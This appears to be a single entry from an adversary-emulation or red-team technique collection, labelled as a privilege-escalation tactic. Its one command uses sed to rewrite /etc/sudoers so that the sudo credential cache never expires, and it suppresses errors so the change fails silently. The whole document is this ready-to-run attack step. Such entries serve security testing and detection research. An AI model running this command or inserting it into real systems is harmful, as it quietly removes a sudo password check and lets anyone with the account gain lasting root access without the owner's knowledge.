# tactic: privilege-escalation
# make the sudo credential cache never expire
sed -i 's/env_reset.*$/env_reset,timestamp_timeout=-1/' /etc/sudoers 2>/dev/null; true
